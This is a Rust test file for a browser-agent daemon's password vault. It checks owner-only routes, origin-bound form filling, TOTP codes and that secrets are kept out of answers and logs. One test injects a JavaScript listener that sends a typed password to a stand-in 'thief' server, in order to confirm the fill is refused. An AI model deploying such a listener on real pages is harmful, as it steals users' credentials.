@@ -1,0 +1,751 @@
+//! The vault (issue 37, DESIGN.md §19), with real parts: KeePass databases written by the real
+//! `keepassxc-cli` (KDBX 3.1 and 4, a key file), a real `pass` store encrypted to a gpg key made
+//! here (no passphrase), real Chromium pages whose server logs what they receive. Agents fill
+//! only the items the person shared with them, only into frames of the item's own origins,
+//! with trusted typing; no answer carries a password; vault routes are the owner's alone.
+
+use std::path::{Path, PathBuf};
+use std::time::Duration;
+
+use porthole_tests::action::Caller;
+use porthole_tests::daemon::{DaemonOptions, TestDaemon};
+use porthole_tests::mcp::ref_of;
+use porthole_tests::pages::PageServer;
+use porthole_tests::pane::Pane;
+use porthole_tests::vault_fixture::{self, run, KdbxEntry, KdbxFormat};
+use porthole_tests::{eventually, TempDir};
+use serde_json::{json, Value};
+
+pub(crate) const CHANNEL: &str = "vault";
+pub(crate) const KP_PASSWORD: &str = "correct horse battery";
+/// The site password in the KeePass database (URL-encoded in a form's query: `%40`).
+pub(crate) const SITE_PASSWORD: &str = "s3cr3t-P@ss-kp";
+/// The site password in the pass store.
+pub(crate) const PASS_PASSWORD: &str = "pw-from-pass-9";
+/// The KeePass entry's TOTP seed (any valid base32 will do).
+pub(crate) const SEED: &str = "JBSWY3DPEHPK3PXP";
+
+/// A `.kdbx` written by the real keepassxc-cli, locked with [`KP_PASSWORD`]: `Web/Forum` at
+/// `site` with a TOTP seed, `Web/Other` elsewhere, `Web/Bare` at `site` with a user name only
+/// (no password, no seed); KDBX 4 with `kdbx4`, else 3.1 (checked in its header); with
+/// `key_file`, locked by `<dir>/<name>.key` too.
+pub(crate) fn keepass_db(
+    dir: &Path,
+    name: &str,
+    site: &str,
+    kdbx4: bool,
+    key_file: bool,
+) -> PathBuf {
+    let login = format!("{site}/login.html");
+    let otp = format!("otpauth://totp/Forum:alice?secret={SEED}&period=30&digits=6&issuer=Forum");
+    let entries = [
+        KdbxEntry {
+            title: "Forum",
+            username: "alice",
+            password: Some(SITE_PASSWORD),
+            url: &login,
+            otp: Some(&otp),
+        },
+        KdbxEntry {
+            title: "Other",
+            username: "carol",
+            password: Some("other-secret-77"),
+            url: "https://other.invalid/",
+            otp: None,
+        },
+        KdbxEntry {
+            title: "Bare",
+            username: "dave",
+            password: None,
+            url: &login,
+            otp: None,
+        },
+    ];
+    let format = KdbxFormat { kdbx4, key_file };
+    let db = vault_fixture::write(dir, name, KP_PASSWORD, &entries, format);
+    // The header's version: 3.1 or 4.0, as asked.
+    assert_eq!(
+        vault_fixture::major_version(&db),
+        if kdbx4 { 4 } else { 3 },
+        "{name}: KDBX major version"
+    );
+    db
+}
+
+/// The current code of the database's entry, as keepassxc-cli computes it.
+pub(crate) fn keepassxc_code(db: &Path, key: Option<&Path>) -> String {
+    let mut args = vec!["show", "-q", "-t"];
+    if let Some(key) = key {
+        args.extend(["-k", key.to_str().unwrap()]);
+    }
+    args.extend([db.to_str().unwrap(), "Web/Forum"]);
+    run("keepassxc-cli", &args, &[], &format!("{KP_PASSWORD}\n"))
+        .trim()
+        .to_string()
+}
+
+/// A gpg home with a fresh key (no passphrase) and a pass store encrypted to it, holding
+/// `web/forum` at `site` with a TOTP line. Stops its gpg-agent when dropped.
+pub(crate) struct PassStore {
+    home: TempDir,
+}
+
+impl PassStore {
+    pub(crate) fn new(site: &str) -> Self {
+        let home = TempDir::new("vault-gpg");
+        let gnupg = home.path().join("g");
+        std::fs::create_dir(&gnupg).unwrap();
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(&gnupg, std::fs::Permissions::from_mode(0o700)).unwrap();
+        let store = home.path().join("store");
+        let env = [
+            ("GNUPGHOME", gnupg.as_path()),
+            ("PASSWORD_STORE_DIR", store.as_path()),
+        ];
+        run(
+            "gpg",
+            &["--batch", "--quiet", "--gen-key"],
+            &env,
+            "%no-protection\nKey-Type: eddsa\nKey-Curve: ed25519\nSubkey-Type: ecdh\n\
+             Subkey-Curve: cv25519\nName-Real: Porthole Vault Test\n\
+             Name-Email: vault-test@porthole.invalid\nExpire-Date: 0\n%commit\n",
+        );
+        run("pass", &["init", "vault-test@porthole.invalid"], &env, "");
+        run(
+            "pass",
+            &["insert", "-m", "web/forum"],
+            &env,
+            &format!("{PASS_PASSWORD}\nlogin: bob\nurl: {site}/login.html\n"),
+        );
+        Self { home }
+    }
+
+    pub(crate) fn gnupg(&self) -> PathBuf {
+        self.home.path().join("g")
+    }
+
+    pub(crate) fn store(&self) -> PathBuf {
+        self.home.path().join("store")
+    }
+}
+
+impl Drop for PassStore {
+    fn drop(&mut self) {
+        let _ = std::process::Command::new("gpgconf")
+            .args(["--kill", "gpg-agent"])
+            .env("GNUPGHOME", self.gnupg())
+            .status();
+    }
+}
+
+pub(crate) async fn put(
+    daemon: &TestDaemon,
+    token: &str,
+    path: &str,
+    body: &Value,
+) -> (u16, Value) {
+    daemon
+        .request_as(Some(token), "PUT", path, Some(body))
+        .await
+}
+
+pub(crate) async fn unlock(daemon: &TestDaemon, source: &str, password: &str) -> (u16, Value) {
+    daemon
+        .post(
+            &format!("/api/browser/vault/{source}/unlock"),
+            &json!({ "password": password }),
+        )
+        .await
+}
+
+pub(crate) fn state_of(overview: &Value, source: &str) -> String {
+    overview["sources"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|s| s["name"] == source)
+        .map(|s| s["state"].as_str().unwrap().to_string())
+        .unwrap_or_else(|| panic!("no source {source} in {overview}"))
+}
+
+/// The requests of `server` whose path starts with `prefix`.
+pub(crate) fn received(server: &PageServer, prefix: &str) -> Vec<String> {
+    server
+        .requests()
+        .into_iter()
+        .filter(|r| r.starts_with(&format!("GET {prefix}")))
+        .collect()
+}
+
+/// Waits for `server` to receive a request starting with `prefix`; returns it.
+pub(crate) async fn wait_for(server: &PageServer, prefix: &str) -> String {
+    eventually(
+        &format!("a request {prefix}"),
+        Duration::from_secs(10),
+        || async { received(server, prefix).into_iter().next() },
+    )
+    .await
+}
+
+/// What the login page's form sends once `kp/Web/Forum` (alice) is filled and submitted.
+pub(crate) fn forum_welcome() -> String {
+    format!(
+        "GET /welcome?user=alice&pass={}",
+        SITE_PASSWORD.replace('@', "%40")
+    )
+}
+
+/// `agent` fills `kp/Web/Forum` into the login page it is on and submits it: the call
+/// succeeds and the site receives alice and the password. The call's answer.
+pub(crate) async fn fill_forum_and_submit(agent: &Caller, site: &PageServer) -> String {
+    let (is_error, text) = agent
+        .act_text(
+            "fill_login",
+            json!({"item": "kp/Web/Forum", "submit": true}),
+        )
+        .await;
+    assert!(!is_error, "{text}");
+    assert_eq!(wait_for(site, "/welcome").await, forum_welcome());
+    text
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn vault_routes_are_the_owners_and_a_wrong_password_leaves_the_source_locked() {
+    let dir = TempDir::new("vault-db");
+    let kp3 = keepass_db(dir.path(), "kp3", "http://127.0.0.1:9", false, false);
+    let kp4 = keepass_db(dir.path(), "kp4", "http://127.0.0.1:9", true, true);
+    let corrupt = dir.path().join("corrupt.kdbx");
+    std::fs::write(&corrupt, b"this is not a keepass database").unwrap();
+    let pass = PassStore::new("http://127.0.0.1:9");
+    let daemon = TestDaemon::start_with(DaemonOptions {
+        config: json!({"vault": {"sources": [
+            {"kind": "keepass", "name": "kp3", "path": kp3},
+            {"kind": "keepass", "name": "kp4", "path": kp4, "key_file": dir.path().join("kp4.key")},
+            {"kind": "keepass", "name": "gone", "path": dir.path().join("missing.kdbx")},
+            {"kind": "keepass", "name": "bad", "path": corrupt},
+            {"kind": "pass", "name": "ps", "dir": pass.store()},
+        ]}}),
+        env: vec![("GNUPGHOME".into(), pass.gnupg().display().to_string())],
+        ..Default::default()
+    })
+    .await;
+    let (_, agent_token) = daemon.add_agent(CHANNEL, "helper", &[]).await;
+
+    // Agent tokens get 403 on every vault route.
+    for (method, path, body) in [
+        ("GET", "/api/browser/vault", None),
+        (
+            "POST",
+            "/api/browser/vault/kp3/unlock",
+            Some(json!({"password": KP_PASSWORD})),
+        ),
+        ("POST", "/api/browser/vault/kp3/lock", None),
+        ("GET", "/api/browser/vault/shares", None),
+        (
+            "PUT",
+            "/api/browser/vault/shares",
+            Some(json!({"shares": [{"item": "kp3/Web/Forum", "agents": ["*"]}]})),
+        ),
+    ] {
+        let (status, answer) = daemon
+            .request_as(Some(&agent_token), method, path, body.as_ref())
+            .await;
+        assert_eq!(status, 403, "{method} {path}: {answer}");
+        assert_eq!(answer["error"]["code"], "agent_forbidden", "{answer}");
+    }
+    let (status, shares) = daemon.get("/api/browser/vault/shares").await;
+    assert_eq!((status, &shares["shares"]), (200, &json!([])), "{shares}");
+
+    // States: locked databases, a missing and a corrupt one in error, pass unlocked.
+    let (status, overview) = daemon.get("/api/browser/vault").await;
+    assert_eq!(status, 200, "{overview}");
+    assert_eq!(state_of(&overview, "kp3"), "locked");
+    assert_eq!(state_of(&overview, "kp4"), "locked");
+    assert_eq!(state_of(&overview, "gone"), "error");
+    assert_eq!(state_of(&overview, "ps"), "unlocked");
+    let items: Vec<&str> = overview["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| i["item"].as_str().unwrap())
+        .collect();
+    assert_eq!(items, ["ps/web/forum"], "{overview}");
+    assert_eq!(overview["items"][0]["username"], "bob", "{overview}");
+
+    // A wrong password: 4xx naming it; still locked.
+    let (status, answer) = unlock(&daemon, "kp3", "not the password").await;
+    assert_eq!(status, 400, "{answer}");
+    assert_eq!(answer["error"]["code"], "wrong_password", "{answer}");
+    assert!(answer["error"]["message"]
+        .as_str()
+        .unwrap()
+        .contains("wrong password"));
+    let (_, overview) = daemon.get("/api/browser/vault").await;
+    assert_eq!(state_of(&overview, "kp3"), "locked");
+    let (status, answer) = unlock(&daemon, "bad", "whatever").await;
+    assert_eq!(status, 409, "{answer}");
+    let (_, overview) = daemon.get("/api/browser/vault").await;
+    assert_eq!(state_of(&overview, "bad"), "error", "{overview}");
+    let (status, _) = unlock(&daemon, "nope", "x").await;
+    assert_eq!(status, 404);
+
+    // The right password (KDBX 3.1), and password plus key file (KDBX 4).
+    let (status, answer) = unlock(&daemon, "kp3", KP_PASSWORD).await;
+    assert_eq!(status, 200, "{answer}");
+    let (status, answer) = unlock(&daemon, "kp4", KP_PASSWORD).await;
+    assert_eq!(status, 200, "{answer}");
+    let (_, overview) = daemon.get("/api/browser/vault").await;
+    assert_eq!(state_of(&overview, "kp3"), "unlocked");
+    let forum = overview["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|i| i["item"] == "kp4/Web/Forum")
+        .unwrap_or_else(|| panic!("kp4/Web/Forum in {overview}"));
+    assert_eq!(forum["username"], "alice");
+    assert_eq!(forum["origins"], json!(["http://127.0.0.1:9"]));
+    assert_eq!(forum["has_totp"], true);
+    let text = overview.to_string();
+    for secret in [SITE_PASSWORD, PASS_PASSWORD, SEED, KP_PASSWORD] {
+        assert!(!text.contains(secret), "a secret in the overview: {text}");
+    }
+
+    // Shares: a bad list changes nothing; a good one is kept.
+    let (status, answer) = put(
+        &daemon,
+        &daemon.token,
+        "/api/browser/vault/shares",
+        &json!({"shares": [{"item": "zz/Web/Forum", "agents": ["*"]}]}),
+    )
+    .await;
+    assert_eq!(status, 400, "{answer}");
+    assert_eq!(answer["error"]["code"], "bad_share");
+    let good = json!({"shares": [{"item": "kp3/Web/Forum", "agents": ["*"], "origins": ["http://127.0.0.1:9"]}]});
+    let (status, answer) = put(&daemon, &daemon.token, "/api/browser/vault/shares", &good).await;
+    assert_eq!((status, &answer), (200, &good));
+    let (_, shares) = daemon.get("/api/browser/vault/shares").await;
+    assert_eq!(shares, good);
+
+    // Lock: locked again, its items gone from the list.
+    let (status, _) = daemon.post("/api/browser/vault/kp3/lock", &json!({})).await;
+    assert_eq!(status, 200);
+    let (_, overview) = daemon.get("/api/browser/vault").await;
+    assert_eq!(state_of(&overview, "kp3"), "locked");
+    assert!(
+        !overview.to_string().contains("kp3/Web/Forum\",\"title"),
+        "{overview}"
+    );
+    // Nothing secret reached the log.
+    let log = daemon.log();
+    for secret in [
+        SITE_PASSWORD,
+        PASS_PASSWORD,
+        KP_PASSWORD,
+        "not the password",
+    ] {
+        assert!(!log.contains(secret), "{secret} in the daemon's log");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn fill_login_types_into_the_items_own_site_only_and_never_answers_the_password() {
+    let site = PageServer::area("vault").await;
+    let lookalike = PageServer::area("vault").await;
+    site.set("FRAME", &lookalike.url("/login.html"));
+    let dir = TempDir::new("vault-db");
+    let pass = PassStore::new(&site.base());
+    let kp = keepass_db(dir.path(), "kp", &site.base(), true, false);
+    let daemon = TestDaemon::start_with(DaemonOptions {
+        config: json!({"vault": {"sources": [
+            {"kind": "keepass", "name": "kp", "path": kp},
+            {"kind": "pass", "name": "ps", "dir": pass.store()},
+        ]}}),
+        env: vec![("GNUPGHOME".into(), pass.gnupg().display().to_string())],
+        ..Default::default()
+    })
+    .await;
+    let (agent_id, token) = daemon.add_agent(CHANNEL, "signer", &[]).await;
+    let (_, other_token) = daemon.add_agent(CHANNEL, "other", &[]).await;
+    let agent = daemon.caller(&token);
+    let other = daemon.caller(&other_token);
+    let shares = json!({"shares": [
+        {"item": "kp/Web/Forum", "agents": [agent_id]},
+        {"item": "ps/web/forum", "agents": ["*"]},
+    ]});
+    let (status, answer) = put(&daemon, &daemon.token, "/api/browser/vault/shares", &shares).await;
+    assert_eq!(status, 200, "{answer}");
+    let mut answers = String::new();
+
+    // Locked: the fill says the person can unlock it in the pane, and the pane is told.
+    let pane = Pane::connect(&daemon.addr, &daemon.token).await;
+    pane.start(CHANNEL).await;
+    agent
+        .act_ok("navigate", json!({"url": site.url("/login.html")}))
+        .await;
+    let (is_error, text) = agent
+        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
+        .await;
+    assert!(
+        is_error && text.contains("locked") && text.contains("pane"),
+        "{text}"
+    );
+    let locked = pane.next_of("vault_locked", 0).await;
+    assert_eq!(locked["source"], "kp", "{locked}");
+    answers.push_str(&text);
+    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
+    assert_eq!(status, 200, "{answer}");
+
+    // list_logins: what is shared with this agent, and whether this tab is its site.
+    let (is_error, text) = agent.act_text("list_logins", json!({})).await;
+    assert!(!is_error, "{text}");
+    let listed: Value = serde_json::from_str(&text).unwrap();
+    let items: Vec<&str> = listed["logins"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|l| l["item"].as_str().unwrap())
+        .collect();
+    assert_eq!(items, ["kp/Web/Forum", "ps/web/forum"], "{text}");
+    assert_eq!(listed["logins"][0]["matches_tab"], true, "{text}");
+    answers.push_str(&text);
+
+    // An unshared item (kp/Web/Other), and an item shared with another agent only.
+    let (is_error, text) = agent
+        .act_text("fill_login", json!({"item": "kp/Web/Other"}))
+        .await;
+    assert!(is_error, "{text}");
+    assert!(
+        text.contains("kp/Web/Forum, ps/web/forum"),
+        "lists the agent's items: {text}"
+    );
+    let (is_error, text) = other
+        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
+        .await;
+    assert!(is_error && text.contains("ps/web/forum"), "{text}");
+    answers.push_str(&text);
+
+    // The look-alike (same page, another origin): refused, nothing typed there.
+    agent
+        .act_ok("navigate", json!({"url": lookalike.url("/login.html")}))
+        .await;
+    let (is_error, text) = agent
+        .act_text(
+            "fill_login",
+            json!({"item": "kp/Web/Forum", "submit": true}),
+        )
+        .await;
+    assert!(is_error, "{text}");
+    assert!(
+        text.contains(&lookalike.base()) && text.contains(&site.base()),
+        "names both origins: {text}"
+    );
+    answers.push_str(&text);
+
+    // A cross-origin frame inside the right site: refused, nothing typed in it.
+    agent
+        .act_ok("navigate", json!({"url": site.url("/framed.html")}))
+        .await;
+    let page = eventually(
+        "the frame's fields in read_page",
+        Duration::from_secs(10),
+        || {
+            let agent = agent.clone();
+            async move {
+                let (_, text) = agent.act_text("read_page", json!({})).await;
+                text.contains("Password").then_some(text)
+            }
+        },
+    )
+    .await;
+    let (user_ref, pass_ref) = (ref_of(&page, "User"), ref_of(&page, "Password"));
+    let (is_error, text) = agent
+        .act_text(
+            "fill_login",
+            json!({"item": "kp/Web/Forum", "username_ref": user_ref, "password_ref": pass_ref}),
+        )
+        .await;
+    assert!(is_error, "{text}");
+    assert!(text.contains(&lookalike.base()), "{text}");
+    answers.push_str(&text);
+    assert!(
+        received(&lookalike, "/typed").is_empty() && received(&lookalike, "/welcome").is_empty(),
+        "the look-alike received typing: {:?}",
+        lookalike.requests()
+    );
+
+    // A wrong kind of field: the password never goes into a text field.
+    agent
+        .act_ok("navigate", json!({"url": site.url("/login.html")}))
+        .await;
+    let (_, page) = agent.act_text("read_page", json!({})).await;
+    let user_ref = ref_of(&page, "User");
+    let (is_error, text) = agent
+        .act_text(
+            "fill_login",
+            json!({"item": "kp/Web/Forum", "password_ref": user_ref}),
+        )
+        .await;
+    assert!(is_error && text.contains("not a password field"), "{text}");
+    assert!(
+        received(&site, "/typed").is_empty(),
+        "{:?}",
+        site.requests()
+    );
+
+    // The right site: the fields are found, typed with trusted input, and the form sent.
+    let text = fill_forum_and_submit(&agent, &site).await;
+    assert!(
+        text.contains("username and password of 'Forum'") && text.contains(&site.base()),
+        "{text}"
+    );
+    answers.push_str(&text);
+    let encoded = SITE_PASSWORD.replace('@', "%40");
+    let typed = received(&site, "/typed");
+    assert!(
+        !typed.is_empty() && typed.iter().all(|t| t.ends_with("trusted=true")),
+        "{typed:?}"
+    );
+
+    // From the pass store, into the same site.
+    agent
+        .act_ok("navigate", json!({"url": site.url("/login.html")}))
+        .await;
+    let (is_error, text) = agent
+        .act_text(
+            "fill_login",
+            json!({"item": "ps/web/forum", "submit": true}),
+        )
+        .await;
+    assert!(!is_error, "{text}");
+    answers.push_str(&text);
+    let sent = eventually("the pass login's form", Duration::from_secs(10), || async {
+        received(&site, "/welcome?user=bob").into_iter().next()
+    })
+    .await;
+    assert_eq!(sent, format!("GET /welcome?user=bob&pass={PASS_PASSWORD}"));
+
+    // No answer carried a secret; the timeline has the fills, without values.
+    for secret in [SITE_PASSWORD, encoded.as_str(), PASS_PASSWORD, KP_PASSWORD] {
+        assert!(
+            !answers.contains(secret),
+            "{secret} in an answer: {answers}"
+        );
+    }
+    // The timeline is written off the call's path: wait for the last fill's event.
+    let look = lookalike.base();
+    let timeline = eventually(
+        "the vault events in the timeline",
+        Duration::from_secs(10),
+        || {
+            let (daemon, look) = (&daemon, look.clone());
+            async move {
+                let (timeline, fills) = daemon.timeline_of(CHANNEL, "vault").await;
+                let summary = |e: &Value| e["summary"].as_str().unwrap_or_default().to_string();
+                let filled = fills
+                    .iter()
+                    .filter(|e| e["ok"] == true && summary(e).contains("'Forum'"))
+                    .count();
+                let refused = fills
+                    .iter()
+                    .any(|e| e["ok"] == false && summary(e).contains(&look));
+                (filled == 1 && refused && fills.iter().any(|e| summary(e).contains("'forum'")))
+                    .then_some(timeline)
+            }
+        },
+    )
+    .await;
+    let all = timeline.to_string();
+    for secret in [SITE_PASSWORD, PASS_PASSWORD] {
+        assert!(!all.contains(secret), "{secret} in the timeline");
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn fill_totp_types_the_code_keepassxc_computes() {
+    let site = PageServer::area("vault").await;
+    let dir = TempDir::new("vault-db");
+    let kp = keepass_db(dir.path(), "kp", &site.base(), false, false);
+    let daemon = TestDaemon::start_with(DaemonOptions {
+        config: json!({"vault": {
+            "sources": [{"kind": "keepass", "name": "kp", "path": kp}],
+            "share": [{"item": "kp/Web/Forum", "agents": ["*"], "origins": [site.base()]}],
+        }}),
+        ..Default::default()
+    })
+    .await;
+    let (_, token) = daemon.add_agent(CHANNEL, "coder", &[]).await;
+    let agent = daemon.caller(&token);
+    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
+    assert_eq!(status, 200, "{answer}");
+    agent
+        .act_ok("navigate", json!({"url": site.url("/otp.html")}))
+        .await;
+    let before = keepassxc_code(&kp, None);
+    let (is_error, text) = agent
+        .act_text("fill_totp", json!({"item": "kp/Web/Forum", "submit": true}))
+        .await;
+    let after = keepassxc_code(&kp, None);
+    assert!(!is_error, "{text}");
+    assert!(text.contains("a one-time code"), "{text}");
+    let sent = wait_for(&site, "/verified").await;
+    let code = sent.trim_start_matches("GET /verified?code=").to_string();
+    assert!(
+        code == before || code == after,
+        "the page got {code:?}; keepassxc-cli computed {before:?} then {after:?}"
+    );
+    assert!(!text.contains(&code), "the code in the answer: {text}");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn script_and_secrets_never_share_a_document() {
+    let site = PageServer::area("vault").await;
+    let thief = PageServer::start().await;
+    let dir = TempDir::new("vault-db");
+    let kp = keepass_db(dir.path(), "kp", &site.base(), true, false);
+    let daemon = TestDaemon::start_with(DaemonOptions {
+        config: vault_fixture::keepass_vault(&kp, &["kp/Web/Forum"]),
+        ..Default::default()
+    })
+    .await;
+    let (_, token) = daemon.add_agent(CHANNEL, "scripter", &[]).await;
+    let agent = daemon.caller(&token);
+    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
+    assert_eq!(status, 200, "{answer}");
+
+    // The agent's own script waits for the password field's input, to send it elsewhere.
+    agent
+        .act_ok("navigate", json!({"url": site.url("/login.html")}))
+        .await;
+    let listener = format!(
+        "document.querySelector('#pass').addEventListener('input', (e) => \
+         fetch('{}/steal?v=' + encodeURIComponent(e.target.value), {{mode: 'no-cors'}})); \
+         'armed';",
+        thief.base()
+    );
+    agent
+        .act_ok("evaluate", json!({"expression": listener}))
+        .await;
+    let (is_error, text) = agent
+        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
+        .await;
+    assert!(is_error && text.contains("evaluate"), "{text}");
+    assert!(
+        received(&site, "/typed").is_empty(),
+        "{:?}",
+        site.requests()
+    );
+
+    // A fresh document of the site: the fill goes through, then evaluate is refused there.
+    agent
+        .act_ok("navigate", json!({"url": site.url("/login.html")}))
+        .await;
+    let (is_error, text) = agent
+        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
+        .await;
+    assert!(!is_error, "{text}");
+    wait_for(&site, "/typed?field=pass").await;
+    let (is_error, text) = agent
+        .act_text(
+            "evaluate",
+            json!({"expression": "document.querySelector('#pass').value"}),
+        )
+        .await;
+    assert!(is_error && text.contains("filled"), "{text}");
+    assert!(!text.contains(SITE_PASSWORD), "{text}");
+
+    // Once that document is gone, evaluate works again in the site's pages.
+    agent
+        .act_ok("navigate", json!({"url": site.url("/otp.html")}))
+        .await;
+    let (is_error, text) = agent
+        .act_text("evaluate", json!({"expression": "document.title"}))
+        .await;
+    assert!(!is_error && text.contains("Two-factor"), "{text}");
+    assert!(
+        thief.requests().iter().all(|r| !r.contains("/steal")),
+        "the thief got a request: {:?}",
+        thief.requests()
+    );
+}
+
+/// Every file under `dir` but the browser profiles, with its bytes.
+fn files_of(dir: &Path, out: &mut Vec<(PathBuf, Vec<u8>)>) {
+    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
+        let path = entry.path();
+        if path.is_dir() {
+            if entry.file_name() != "profiles" {
+                files_of(&path, out);
+            }
+        } else if let Ok(bytes) = std::fs::read(&path) {
+            out.push((path, bytes));
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn no_answer_carries_a_filled_secret_even_from_a_page_that_echoes_it() {
+    use base64::Engine as _;
+    let site = PageServer::area("vault").await;
+    let dir = TempDir::new("vault-db");
+    let kp = keepass_db(dir.path(), "kp", &site.base(), true, false);
+    let daemon = TestDaemon::start_with(DaemonOptions {
+        config: vault_fixture::keepass_vault(&kp, &["kp/Web/Forum"]),
+        rust_log: "porthole=trace,info",
+        ..Default::default()
+    })
+    .await;
+    let (_, token) = daemon.add_agent(CHANNEL, "reader", &[]).await;
+    let agent = daemon.caller(&token);
+    let (status, answer) = unlock(&daemon, "kp", KP_PASSWORD).await;
+    assert_eq!(status, 200, "{answer}");
+    agent
+        .act_ok("navigate", json!({"url": site.url("/echo.html")}))
+        .await;
+    let (is_error, text) = agent
+        .act_text("fill_login", json!({"item": "kp/Web/Forum"}))
+        .await;
+    assert!(!is_error, "{text}");
+    wait_for(&site, "/echo?v=").await;
+
+    let forms = [
+        SITE_PASSWORD.to_string(),
+        SITE_PASSWORD.replace('@', "%40"),
+        base64::engine::general_purpose::STANDARD.encode(SITE_PASSWORD),
+    ];
+    let mut answers = text;
+    for (tool, args) in [
+        ("get_page_text", json!({})),
+        ("read_page", json!({})),
+        ("find", json!({"query": "You typed"})),
+        ("read_console_messages", json!({})),
+        ("read_network_requests", json!({})),
+        ("page_info", json!({})),
+    ] {
+        let (_, text) = agent.act_text(tool, args).await;
+        for form in &forms {
+            assert!(
+                !text.contains(form.as_str()),
+                "{tool} answered the secret: {text}"
+            );
+        }
+        answers.push_str(&text);
+    }
+    assert!(answers.contains("You typed [secret]"), "{answers}");
+    assert!(answers.contains("base64 [secret]"), "{answers}");
+    assert!(answers.contains("/echo?v=[secret]"), "{answers}");
+
+    // Not in the data directory (timeline, state database; profiles aside) nor in the
+    // trace-level log.
+    let mut files = Vec::new();
+    files_of(daemon.data.path(), &mut files);
+    assert!(files.len() > 2, "{files:?}");
+    for (path, bytes) in &files {
+        for form in &forms {
+            assert!(
+                !bytes.windows(form.len()).any(|w| w == form.as_bytes()),
+                "{} holds the secret",
+                path.display()
+            );
+        }
+    }
+}
